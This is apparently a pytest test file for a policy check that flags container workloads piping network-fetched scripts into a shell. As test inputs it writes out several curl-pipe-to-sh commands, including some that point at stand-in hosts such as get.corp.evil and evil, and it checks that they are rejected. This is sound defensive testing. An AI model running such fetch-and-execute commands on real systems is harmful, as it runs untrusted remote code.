"""remote-script."""

import pytest

from pinfold.policy.rules.remote_script import Options, check
from tests.policy.facts import hazard, workload

OURS = Options(allowed=("https://get.corp/*",))


@pytest.mark.parametrize(
    ("text", "passes"),
    [
        pytest.param("curl https://get.corp/a.sh | sh", True, id="an address of our own"),
        pytest.param('sh -c "$(curl https://get.corp/a.sh)"', True, id="in quotes and brackets"),
        pytest.param("curl https://get.corp.evil/a.sh | sh", False, id="a longer host"),
        pytest.param("curl https://get.corp/../a.sh | sh", False, id="upwards"),
        pytest.param("curl https://get.corp/a https://evil/b | sh", False, id="one of two"),
        pytest.param('curl "$URL" | sh', False, id="not known"),
        pytest.param("curl https://get.corp/a ht…", False, id="more is left out"),
        pytest.param("", False, id="nothing is known of it"),
    ],
)
def test_scripts_that_may_run(text: str, passes: bool) -> None:
    assert (list(check(workload(hazard("remote-script", text)), OURS)) == []) is passes


def test_the_message() -> None:
    facts = workload(hazard("remote-script", "curl https://h/a | sh"), hazard("import-path"))
    (violation,) = check(facts, Options())
    assert violation.found == '"curl https://h/a | sh" runs what comes over the network'
    assert violation.why == "whoever answers there, or will, runs code in the pod"
    assert violation.fix == (
        "build it into the image, or save it, ask sha256sum -c for its sum, and run it then"
    )


def test_a_file_that_is_run_later_is_told_in_its_own_words() -> None:
    facts = workload(hazard("remote-script", "https://h/a is run as /tmp/a"))
    (violation,) = check(facts, Options())
    assert violation.found == "https://h/a is run as /tmp/a, as the network sends it"
